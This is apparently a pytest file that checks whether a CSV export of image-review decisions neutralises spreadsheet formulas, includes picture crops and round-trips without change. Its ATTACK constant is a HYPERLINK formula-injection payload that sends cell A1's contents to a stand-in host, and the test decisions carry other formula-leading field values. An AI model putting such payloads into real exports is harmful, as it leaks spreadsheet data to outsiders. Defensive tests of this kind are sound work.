"""Decisions as CSV: with numbers and pictures, safe in a spreadsheet, and back unchanged."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from repic.images.coordinates import Box
from repic.images.uris import file_path
from repic.pipeline import reviews, reviews_csv
from repic.pipeline.reviews import box_id, record
from repic.pipeline.reviews_csv import FORMULAS, OF_PLACES, SHOWN
from storage.store import Store
from tests.builds import Built
from tests.pipeline.test_box_reviews import box

ATTACK = '=HYPERLINK("http://example.org/?"&A1,"look")'


@pytest.fixture
def store(built: Built, tmp_path: Path) -> Store:
    return built.copy(tmp_path / "store")


def exported(store: Store, path: Path, **options: Any) -> list[dict[str, str]]:
    assert reviews_csv.export(store, path, **options) > 0
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_a_pair_is_shown_with_numbers_photos_and_pictures(store: Store, tmp_path: Path) -> None:
    pairs = {row["pair_id"]: row for row in store.read("pairs@latest").to_pylist()}
    objects = {row["object_id"]: row for row in store.read("objects@latest").to_pylist()}
    uris = {row["image_id"]: row["uri"] for row in store.read("images@latest").to_pylist()}
    sure = next(id_ for id_, row in pairs.items() if not row["doubtful"])
    record(store, [box(sure, "reject", subject="pair")])
    first, *waiting = exported(store, tmp_path / "doubtful.csv")
    assert (first["subject_id"], first["decision"]) == (sure, "reject")
    assert [r["subject_id"] for r in waiting] == sorted(i for i in pairs if pairs[i]["doubtful"])
    for row in (first, *waiting):
        pair = pairs[row["subject_id"]]
        assert (row["kind"], row["band"]) == (pair["kind"], pair["band"])
        assert float(row["similarity"]) == pytest.approx(pair["similarity"], abs=1e-4)
        assert float(row["margin"]) == pytest.approx(pair["margin"], abs=1e-4)
        for end, prefix in (("anchor", ""), ("other", "other_")):
            thing = objects[pair[f"{end}_id"]]
            assert row[f"{prefix}photo"] == uris[thing["image_id"]]
            shape = Box.of_row(thing)
            with Image.open(tmp_path / row[f"{prefix}picture"]) as picture:
                assert picture.width / picture.height == pytest.approx(
                    shape.width / shape.height, rel=0.15
                )
    rows = exported(store, tmp_path / "plain.csv", pictures=False)
    assert not (tmp_path / "plain-pictures").exists()
    assert {row["picture"] for row in rows} == {""}


def test_what_is_shown_changes_nothing_on_the_way_back(store: Store, tmp_path: Path) -> None:
    photo = store.read("images@latest")["image_id"][0].as_py()
    thing = store.read("objects@latest")["object_id"][0].as_py()
    at = box_id(photo, Box(1, 2, 30, 40))
    decided = [
        box(at, box=[1.25, 2, 30, 40], label="-cup"),
        box(at, identity="\uff1dZoë"),
        box(thing, "reject", "@Ben", subject="object", note="'quoted"),
        box("gone", "reject", "'=Cem", subject="pair", note=ATTACK),
    ]
    record(store, decided)
    rows = exported(store, tmp_path / "=all.csv")
    by_subject = {(row["subject"], row["subject_id"]): row for row in rows}
    for key in (("box", at), ("identity", at), ("object", thing)):
        with Image.open(tmp_path / by_subject[key]["picture"].removeprefix("'")) as picture:
            assert max(picture.size) <= 256
        assert not by_subject[key]["other_picture"]
    assert not any(by_subject["pair", "gone"][name] for name in SHOWN)
    texts = {name: text for row in rows for name, text in row.items() if text}
    numbers = ("similarity", "margin")
    assert not [t for name, t in texts.items() if name not in numbers and t[0] in FORMULAS]
    other = Store.open(tmp_path / "other", create=True)
    reviews_csv.read(other, tmp_path / "=all.csv")
    key = reviews.key_of
    assert sorted(reviews.decisions(other), key=key) == sorted(decided, key=key)


def test_a_photo_that_is_gone_is_told_and_the_rest_is_there(store: Store, tmp_path: Path) -> None:
    row = exported(store, tmp_path / "doubtful.csv", pictures=False)[0]
    file = Path(file_path(row["photo"]))
    content = file.read_bytes()
    file.unlink()
    try:
        rows = exported(store, tmp_path / "doubtful.csv")
    finally:
        file.write_bytes(content)
    assert rows[0]["picture"].startswith("cannot be shown: ")
    pictures = {r[name] for r in rows for name in OF_PLACES[::2]}
    assert any((tmp_path / picture).is_file() for picture in pictures)
